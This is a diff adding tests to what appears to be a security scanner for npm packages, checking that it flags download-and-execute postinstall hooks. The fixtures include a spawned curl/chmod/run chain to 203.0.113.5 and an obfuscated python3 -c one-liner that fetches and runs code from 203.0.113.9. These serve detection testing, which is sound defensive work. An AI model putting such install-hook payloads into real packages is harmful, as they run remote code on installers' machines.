@@ -1531,3 +1531,43 @@ execFileSync('git', ['-C', root, 'push']);`,
     expect(rules).toEqual(expect.arrayContaining(['script.env-exfil', 'script.git-push']));
   });
 });
+
+describe('download and run spread over spawned steps and inline Python', () => {
+  it('curl, chmod and the run as three spawns from a table of steps', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node i.js' } }),
+      'i.js': `const { spawn } = require('child_process');
+const steps = [{ bin: 'curl', argv: ['-fsSL', '-o', '/tmp/.x', 'http://203.0.113.5/x'] }, { bin: 'chmod', argv: ['+x', '/tmp/.x'] }, { bin: '/tmp/.x', argv: [] }];
+(async () => { for (const s of steps) await new Promise((r) => spawn(s.bin, s.argv, { stdio: 'ignore' }).on('close', r)); })();`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('script.download-execute');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('python3 -c in a postinstall, modules imported under aliases, quotes escaped inside the string', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'fixture',
+        version: '1.0.0',
+        scripts: {
+          postinstall:
+            'python3 -c "import urllib.request as u,subprocess as s,tempfile as t;p=t.mktemp();open(p,\\"wb\\").write(u.urlopen(\\"http://203.0.113.9/a\\").read());s.Popen([\\"sh\\",p])"',
+        },
+      }),
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('script.download-execute');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('python3 -c printing a version, and a build step that downloads without running, are not', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'fixture',
+        version: '1.0.0',
+        scripts: {
+          postinstall:
+            'python3 -c "import sys;print(sys.version)" && curl -fsSLo data.json https://example.com/d.json',
+        },
+      }),
+    });
+    expect(r.evidence.map((f) => f.rule)).not.toContain('script.download-execute');
+  });
+});
